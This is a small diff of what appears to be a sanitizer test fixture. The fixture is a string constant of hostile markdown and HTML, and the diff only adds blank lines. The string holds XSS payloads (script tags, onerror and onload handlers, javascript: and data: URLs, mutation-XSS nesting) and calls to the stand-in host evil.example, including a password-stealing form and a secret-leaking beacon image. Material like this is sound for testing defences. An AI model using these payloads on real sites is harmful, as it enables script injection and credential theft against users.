@@ -54,7 +54,9 @@ _HOSTILE: Final = """# Hello <script>window.hacked = 1; alert(1)</script>
 ![beacon](https://evil.example/beacon.png?secret=1) ![x](http://127.0.0.1:9/pixel.png)
 <iframe src="https://evil.example/"></iframe> <style>@import url(https://evil.example/x.css);</style>
 <svg onload="window.hacked = 3"><a href="javascript:window.hacked=4">x</a></svg>
+
 [click me](javascript:window.hacked=5) [data](data:text/html,<script>alert(1)</script>) [fine](https://good.example/page)
+
 <form action="https://evil.example/steal"><input name="password"></form>
 <link rel="prefetch" href="https://evil.example/prefetch"> <meta http-equiv="refresh" content="0;url=https://evil.example">
 <math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 6"></style></mglyph></table></mtext></math>
